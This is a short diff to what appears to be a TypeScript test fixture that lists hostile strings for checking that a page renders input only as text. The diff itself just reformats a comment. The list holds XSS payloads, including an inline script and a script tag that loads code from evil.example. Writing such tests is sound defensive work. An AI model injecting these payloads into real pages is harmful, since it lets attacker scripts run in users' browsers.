@@ -1,6 +1,9 @@
 const RUN = 'window.__xss=1'
 
-/** Texts that attack a page which takes them for anything but text. Each would set `window.__xss`, ask evil.example, or hide what it says. */
+/**
+ * Texts that attack a page which takes them for anything but text. Each would set `window.__xss`, ask evil.example, or
+ * hide what it says.
+ */
 export const HOSTILE: string[] = [
   `<script>${RUN}</script>`,
   '<script src="http://evil.example/a.js"></script>',
